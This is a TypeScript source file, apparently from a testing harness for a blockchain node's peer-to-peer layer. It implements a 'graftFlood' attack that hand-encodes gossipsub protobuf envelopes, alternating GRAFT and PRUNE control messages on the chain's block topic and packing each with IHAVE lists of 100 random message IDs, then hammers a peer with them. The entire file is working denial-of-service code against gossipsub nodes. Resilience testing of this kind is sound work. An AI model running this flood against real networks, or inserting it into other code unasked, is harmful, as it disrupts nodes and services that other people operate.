import { randomBytes } from 'node:crypto'
import { type Bytes, concatBytes, toHex, utf8 } from '../../primitives/bytes.ts'
import type { Attack } from './attack.ts'
import { hammer } from './hammer.ts'

const idsPerEnvelope = 100
const messageIdBytes = 20

/** Envelopes of gossipsub with nothing but control in them: grafts and prunes of a topic in turn, and hashes of messages that nobody has. */
export const graftFlood: Attack = (context) =>
  hammer(
    context,
    {
      protocol: '/meshsub/1.1.0',
      load({ hello }) {
        const topic = utf8(`/synod/${toHex(hello.chainId).slice(0, 16)}/blocks`)
        return (index) => envelope(topic, index)
      },
    },
    70,
  )

/** The fields of gossipsub's rpc.proto: RPC.control is 3; ControlMessage has ihave 1, graft 3, prune 4. */
function envelope(topic: Bytes, index: number): Bytes {
  const topicField = field(1, topic)
  const ids = Array.from({ length: idsPerEnvelope }, () => field(2, randomBytes(messageIdBytes)))
  const ihave = field(1, concatBytes(topicField, ...ids))
  const mesh = field(index % 2 === 0 ? 3 : 4, topicField)
  const rpc = concatBytes(...(index === 0 ? [subscription(topic)] : []), field(3, concatBytes(ihave, mesh)))
  return concatBytes(varint(rpc.length), rpc)
}

/** RPC.subscriptions is 1; SubOpts has subscribe 1, topic 2. */
function subscription(topic: Bytes): Bytes {
  return field(1, concatBytes(Uint8Array.of(0x08, 1), field(2, topic)))
}

function field(number: number, value: Bytes): Bytes {
  return concatBytes(Uint8Array.of((number << 3) | 2), varint(value.length), value)
}

function varint(value: number): Bytes {
  const bytes: number[] = []
  let rest = value
  while (rest > 0x7f) {
    bytes.push((rest & 0x7f) | 0x80)
    rest >>>= 7
  }
  return Uint8Array.of(...bytes, rest)
}
